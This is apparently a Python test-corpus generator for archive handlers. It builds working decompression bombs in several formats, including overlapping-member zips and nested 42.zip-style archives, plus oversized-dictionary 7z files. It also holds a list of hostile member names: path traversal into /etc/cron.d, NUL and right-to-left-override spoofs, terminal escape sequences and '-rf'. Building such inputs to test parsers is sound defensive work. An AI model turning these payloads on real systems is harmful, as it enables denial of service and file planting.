"""Writer of archives that harm whoever believes them: bombs, overlaps, claims, names. All of them small, and harmless to look at.

    bombs(mib)      {name: bytes} of compressed streams and zips that give about so many MiB      overlapping(count, mib), endless_gzip()
    nest_of(width, depth, leaf)   width^depth copies of leaf, as 42.zip    empty_members(count)   claims()      names(programs)
"""
import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zlib

from gen import archive, sevenzip

DOS = (archive.DOS_TIME, archive.DOS_DATE)


def zeros(mib, squeeze):
    block, out = b"\0" * (1 << 20), []
    for _ in range(mib):
        out.append(squeeze.compress(block))
    return b"".join(out) + squeeze.flush()


def zstd_zeros(mib):
    """A zstd frame of RLE blocks (RFC 8878, 3.1.1.2) of zeros, each 128 KiB, without checksum."""
    blocks = mib * 8
    frame = b"\x28\xb5\x2f\xfd" + bytes([0x00, 0x38])      # no content size; a window of 128 KiB
    for index in range(blocks):
        frame += struct.pack("<I", (128 << 10) << 3 | 1 << 1 | (index == blocks - 1))[:3] + b"\0"
    return frame


def bombs(mib):
    return {"bomb.gz": gzip_of(zeros(mib, zlib.compressobj(9, zlib.DEFLATED, -15)), mib << 20), "bomb.bz2": zeros(mib, bz2.BZ2Compressor(9)),
            "bomb.xz": zeros(mib, lzma.LZMACompressor(preset=1)), "bomb.lzma": zeros(mib, lzma.LZMACompressor(format=lzma.FORMAT_ALONE, preset=1)),
            "bomb.zst": zstd_zeros(mib), "bomb.zip": archive.zip_bomb(mib << 20),
            "bomb.tar.gz": gzip.compress(tar_header(b"zeros.bin", mib << 20), 9)}


def gzip_of(deflated, size):
    crc = 0
    for _ in range(size >> 20):
        crc = zlib.crc32(b"\0" * (1 << 20), crc)
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + deflated + struct.pack("<II", crc, size & 0xFFFFFFFF)


def endless_gzip(members=3000):
    """One stream of very many gzip members, each a mebibyte of zeros in a kilobyte."""
    one = gzip_of(zeros(1, zlib.compressobj(9, zlib.DEFLATED, -15)), 1 << 20)
    return one * members


def zip_record(name, packed, size, crc, method, flags=0):
    return struct.pack("<HHHHHIIIHH", 20, flags, method, *DOS, crc, packed, size, len(name), 0)


def overlapping(count=200, mib=4):
    """Members that quote each other: the data of each begins with a stored block that holds the next one's header, and ends in one kernel of
    zeros that all share (D. Fifield, A better zip bomb, WOOT 2019)."""
    packed, plain = zeros(mib, zlib.compressobj(9, zlib.DEFLATED, -15)), b"\0" * (mib << 20)
    heads = []
    for index in range(count - 1, -1, -1):
        name = b"%d" % index
        record = zip_record(name, len(packed), len(plain), zlib.crc32(plain), 8)
        head = b"PK\3\4" + record + name
        heads.append((name, record, len(head) + len(packed)))
        if index:
            packed = struct.pack("<BHH", 0, len(head), len(head) ^ 0xFFFF) + head + packed
            plain = head + plain
    whole = head + packed
    central = b"".join(b"PK\1\2" + struct.pack("<H", 20) + record + struct.pack("<HHHII", 0, 0, 0, 0, len(whole) - behind) + name
                       for name, record, behind in reversed(heads))
    return whole + central + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, count, count, len(central), len(whole), 0)


def nest_of(width, depth, leaf):
    for level in range(depth):
        leaf = archive.zipped([("%d-%d.zip" % (level, index), leaf) for index in range(width)])
    return leaf


def empty_members(count):
    """A zip of members of nothing, in ZIP64 where the count needs it."""
    local = b"".join(b"PK\3\4" + zip_record(b"%07d" % index, 0, 0, 0, 0) + b"%07d" % index for index in range(count))
    central = b"".join(b"PK\1\2" + struct.pack("<H", 20) + zip_record(b"%07d" % index, 0, 0, 0, 0) + struct.pack("<HHHII", 0, 0, 0, 0, index * 37) +
                       b"%07d" % index for index in range(count))
    small = min(count, 0xFFFF)
    end64 = b"" if count < 0xFFFF else b"PK\6\6" + struct.pack("<QHHIIQQQQ", 44, 45, 45, 0, 0, count, count, len(central), len(local)) + \
        b"PK\6\7" + struct.pack("<IQI", 0, len(local) + len(central), 1)
    return local + central + end64 + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, small, small, len(central), len(local), 0)


def tar_header(name, size, kind=b"0", link=b""):
    """A ustar header; sizes beyond eleven octal digits in base 256, as GNU tar writes them."""
    number = b"%011o\0" % size if size < 8 ** 11 else b"\x80" + size.to_bytes(11, "big")
    head = bytearray(name.ljust(100, b"\0") + b"0000644\0" + b"0000000\0" * 2 + number + b"14500000000\0" + b" " * 8 + kind + link.ljust(100, b"\0") +
                     b"ustar\x0000" + b"\0" * 247)
    head[148:156] = b"%06o\0 " % sum(head)
    return bytes(head)


def sparse_tar(real_size):
    """A PAX sparse file (GNU 1.0's older form, 0.1) with one byte at its start and a hole to real_size."""
    pax = {"GNU.sparse.major": "0", "GNU.sparse.minor": "1", "GNU.sparse.map": "0,1", "GNU.sparse.size": str(real_size),
           "GNU.sparse.numblocks": "1", "GNU.sparse.name": "hole.bin"}
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as file:
        member = tarfile.TarInfo("hole.bin")
        member.size, member.pax_headers = 1, pax
        file.addfile(member, io.BytesIO(b"M"))
    return out.getvalue()


def mended(data):
    """A 7z file whose checksums of header and start are right again."""
    offset, size = struct.unpack_from("<QQ", data, 12)
    header = data[32 + offset:32 + offset + size]
    start = struct.pack("<QQI", offset, size, zlib.crc32(header))
    return data[:8] + struct.pack("<I", zlib.crc32(start)) + start + data[32:]


def large_dictionary(program, password=None):
    """A 7z file whose LZMA coder claims a dictionary of 4 GiB."""
    data = sevenzip.packed({"x.exe": program}, "lzma", password, cycles=1)
    at = data.rindex(b"\x03\x01\x01\x05\x5d") + 5
    return mended(data[:at] + b"\xff\xff\xff\xff" + data[at + 4:])


NAMES = [b"../../../etc/cron.d/x", b"/absolute.exe", b"C:\\Windows\\x.exe", "日本語の名前.exe".encode(), "日本語.exe".encode("cp932"), b"trailing ", b"nul\0hidden.exe",
         b"\x1b[2J\x1b]0;title\x07.exe", b"\xe2\x80\xaeexe.txt", b"same.exe", b"same.exe", b"-rf", b"a\nb.exe", b"x" * 5000, b"CON", b"", b"folder/", b"!!.exe"]
